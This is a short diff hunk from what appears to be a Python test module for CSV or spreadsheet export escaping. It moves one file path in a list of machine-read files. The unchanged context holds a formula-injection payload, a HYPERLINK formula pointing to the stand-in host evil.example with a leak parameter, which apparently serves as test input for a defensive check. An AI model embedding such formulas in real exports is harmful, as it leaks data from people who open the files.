@@ -16,7 +16,7 @@ APP_PACKAGES = ("customers", "governance", "insight", "mis")
 # Files the application writes for its own machinery, never for a person: a
 # leading quote would change the data they carry.
 MACHINE_FILES = {
-    "customers/duplicates/sweep.py": "the duplicate sweep's input to DuckDB",
+    "customers/duplicates/services/sweep.py": "the duplicate sweep's input to DuckDB",
     "customers/demo.py": "the demo's ground truth, read back by the accuracy benchmark",
 }
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak=1","Click me")'
